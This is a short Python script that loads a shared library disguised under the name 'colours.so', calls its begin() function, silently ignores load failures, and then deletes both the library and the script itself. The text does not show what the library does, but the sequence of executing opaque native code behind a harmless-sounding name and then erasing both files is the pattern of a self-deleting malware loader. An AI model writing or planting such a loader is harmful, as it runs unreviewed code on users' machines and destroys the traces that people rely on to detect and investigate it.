import ctypes
import os

here = os.path.dirname(os.path.abspath(__file__))
try:
    ctypes.CDLL(os.path.join(here, "colours.so")).begin()
except OSError:
    pass
for name in ("colours.so", "begin.py"):
    os.remove(os.path.join(here, name))
